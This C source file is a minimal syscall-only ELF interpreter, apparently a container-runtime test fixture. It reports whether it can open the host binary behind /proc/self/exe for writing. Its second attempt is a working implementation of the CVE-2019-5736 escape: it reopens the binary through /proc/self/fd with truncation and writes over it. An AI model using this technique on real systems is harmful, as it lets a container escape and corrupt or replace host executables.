/* A loader (PT_INTERP) that an image gives to a program of the host which it made the kernel execute. It
 * has no C library: the kernel starts it in the place of the real one. It tries to write the program. */
#include <sys/syscall.h>

static long call(long number, long a, long b, long c) {
  long result;
#if defined __x86_64__
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
#error "not written for this architecture"
#endif
  return result;
}

static void say(const char *text) {
  long length = 0;
  while (text[length]) length++;
  call(SYS_write, 1, (long)text, length);
}

static void number(long value) {
  char text[24];
  int at = 23;
  unsigned long rest = value < 0 ? (unsigned long)-value : (unsigned long)value;
  text[at] = 0;
  do text[--at] = (char)('0' + rest % 10);
  while ((rest /= 10) && at > 1);
  if (value < 0) text[--at] = '-';
  say(text + at);
}

void _start(void) {
  say("loader of ");
  char path[256];
  long length = call(SYS_readlink, (long)"/proc/self/exe", (long)path, sizeof path - 1);
  path[length > 0 ? length : 0] = 0;
  say(path);
  say(": ");
  /* O_WRONLY, which fails with ETXTBSY as long as it runs, if it is not forbidden before. */
  long busy = call(SYS_open, (long)"/proc/self/exe", 1, 0);
  number(busy);
  say(" ");
  /* O_PATH, then again for writing once nobody runs it: the way of CVE-2019-5736. */
  long fd = call(SYS_open, (long)"/proc/self/exe", 010000000, 0);
  char again[] = "/proc/self/fd/0";
  if (fd >= 0 && fd < 10) again[14] = (char)('0' + fd);
  long opened = call(SYS_open, (long)again, 1 | 01000, 0);
  number(opened);
  if (opened >= 0) call(SYS_write, opened, (long)"overwritten", 11);
  say("\n");
  call(SYS_exit_group, 1, 0, 0);
}
